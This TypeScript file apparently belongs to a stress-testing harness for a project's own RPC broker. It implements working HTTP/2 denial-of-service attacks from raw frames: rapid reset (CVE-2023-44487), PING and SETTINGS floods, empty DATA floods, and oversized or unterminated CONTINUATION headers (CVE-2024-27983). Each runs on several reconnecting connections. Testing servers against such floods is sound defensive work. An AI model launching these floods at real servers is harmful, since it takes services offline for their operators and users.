// Attacks by single HTTP/2 frames: correct one by one, and far too many.
import type { Socket } from "node:net";
import { adminService, metadataService } from "../../../src/rpc/methods.ts";
import { type Attack, pick, rest, type Target } from "../attack.ts";
import {
  callHeaders,
  drop,
  END_HEADERS,
  END_STREAM,
  FRAME,
  frame,
  headerBlock,
  openSocket,
  PREFACE,
  push,
  SETTINGS,
} from "../raw-http2.ts";
import type { Tally } from "../tally.ts";

const CALL = headerBlock(callHeaders(metadataService.getMetadata.path));
const CONNECTIONS = 4;

/** On a few connections at once, each replaced when the broker ends it: sends what `next` makes, as fast as it is taken. */
async function stream(
  target: Target,
  tally: Tally,
  signal: AbortSignal,
  next: (round: number) => Buffer,
  opening: Buffer = Buffer.alloc(0),
): Promise<void> {
  const one = async (place: number): Promise<void> => {
    while (!signal.aborted) {
      const socket: Socket = await openSocket(pick(target.clients, place), tally);
      socket.resume();
      await push(socket, Buffer.concat([PREFACE, SETTINGS, opening]));
      for (let round = 0; !signal.aborted; round += 1) {
        tally.sent += 1;
        if (!(await push(socket, next(round)))) break;
      }
      drop(socket);
      await rest(50, signal);
    }
  };
  await Promise.all(Array.from({ length: CONNECTIONS }, (_, place) => one(place)));
}

/** So many copies of a frame in one write. */
function many(bytes: Buffer, count: number): Buffer {
  return Buffer.concat(Array.from({ length: count }, () => bytes));
}

const rapidReset: Attack = {
  name: "rapid-reset",
  what: "opens streams and breaks them off at once (CVE-2023-44487)",
  effects: ["cut"],
  run: (target, tally, signal) =>
    stream(target, tally, signal, (round) => {
      const frames: Buffer[] = [];
      for (let place = 0; place < 50; place += 1) {
        const id = (round * 50 + place) * 2 + 1;
        frames.push(frame(FRAME.HEADERS, END_HEADERS, id, CALL));
        frames.push(frame(FRAME.RST_STREAM, 0, id, Buffer.from([0, 0, 0, 8])));
      }
      return Buffer.concat(frames);
    }),
};

const PINGS = many(frame(FRAME.PING, 0, 0, Buffer.alloc(8)), 500);
const pingFlood: Attack = {
  name: "ping-flood",
  what: "nothing but PING frames",
  effects: ["cut"],
  run: (target, tally, signal) => stream(target, tally, signal, () => PINGS),
};

const MANY_SETTINGS = many(SETTINGS, 500);
const settingsFlood: Attack = {
  name: "settings-flood",
  what: "nothing but SETTINGS frames",
  effects: ["cut"],
  run: (target, tally, signal) => stream(target, tally, signal, () => MANY_SETTINGS),
};

const EMPTY_DATA = many(frame(FRAME.DATA, 0, 1, Buffer.alloc(0)), 500);
const emptyData: Attack = {
  name: "empty-data",
  what: "DATA frames without data on one stream",
  effects: ["cut"],
  run: (target, tally, signal) =>
    stream(target, tally, signal, () => EMPTY_DATA, frame(FRAME.HEADERS, END_HEADERS, 1, CALL)),
};

const MANY_HEADERS = headerBlock({
  ...callHeaders(adminService.listTopics.path),
  ...Object.fromEntries(Array.from({ length: 60 }, (_, n) => [`x-${n}`, "h".repeat(1000)])),
});
const hugeHeaders: Attack = {
  name: "huge-headers",
  what: "calls with 60 KiB of headers, and headers that never end (CVE-2024-27983)",
  effects: ["cut", "refused"],
  run: (target, tally, signal) =>
    stream(target, tally, signal, (round) => {
      const id = round * 2 + 1;
      const flags = round % 20 === 19 ? 0 : END_HEADERS;
      const parts: Buffer[] = [];
      for (let at = 0; at < MANY_HEADERS.length; at += 16_000) {
        const piece = MANY_HEADERS.subarray(at, at + 16_000);
        const isLast = at + 16_000 >= MANY_HEADERS.length;
        const type = at === 0 ? FRAME.HEADERS : FRAME.CONTINUATION;
        parts.push(frame(type, (isLast ? flags : 0) | (at === 0 ? END_STREAM : 0), id, piece));
      }
      return Buffer.concat(parts);
    }),
};

export const frameAttacks: readonly Attack[] = [
  rapidReset,
  pingFlood,
  settingsFlood,
  emptyData,
  hugeHeaders,
];
